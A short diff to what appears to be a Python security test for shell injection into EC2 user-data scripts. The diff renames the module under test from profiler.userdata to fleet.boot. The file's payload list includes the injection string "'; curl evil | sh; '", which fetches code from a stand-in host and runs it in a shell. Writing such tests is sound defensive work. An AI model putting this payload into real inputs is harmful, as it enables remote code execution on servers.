@@ -1,4 +1,4 @@
-"""Shell injection into the EC2 user-data Srifty builds (``profiler.userdata``,
+"""Shell injection into the EC2 user-data Srifty builds (``fleet.boot``,
 ``launcher.launch``) from anything a user typed.
 
 The scripts are not only grepped: their assignment block is *run* by bash with a ``PATH`` of
@@ -14,7 +14,7 @@ from pathlib import Path
 
 import pytest
 
-from profiler import userdata
+from fleet import boot as userdata
 
 PAYLOADS = [
     "'; curl evil | sh; '",
